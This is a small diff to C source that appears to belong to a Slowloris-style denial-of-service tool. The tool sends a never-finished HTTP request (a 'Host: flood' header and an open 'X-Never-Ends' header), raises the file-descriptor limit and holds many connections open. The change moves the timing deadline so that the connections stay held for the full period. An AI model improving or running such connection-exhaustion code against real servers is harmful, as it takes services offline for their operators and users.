@@ -31,7 +31,7 @@ static const char half[] = "GET / HTTP/1.1\r\nHost: flood\r\nX-Never-Ends: ";
 static int connections(const struct sockaddr_in *to, int count, int seconds)
 {
     struct rlimit files = { MOST + 100, MOST + 100 };
-    time_t end = time(NULL) + seconds;
+    time_t end;
     int made = 0, refused = 0, i;
 
     if (setrlimit(RLIMIT_NOFILE, &files)) {
@@ -50,6 +50,8 @@ static int connections(const struct sockaddr_in *to, int count, int seconds)
             return 1;
         }
     }
+    /* On a busy machine the requests alone may have taken as long. */
+    end = time(NULL) + seconds;
     while (time(NULL) < end) {
         if (poll(waiting, count, 200) <= 0)
             continue;
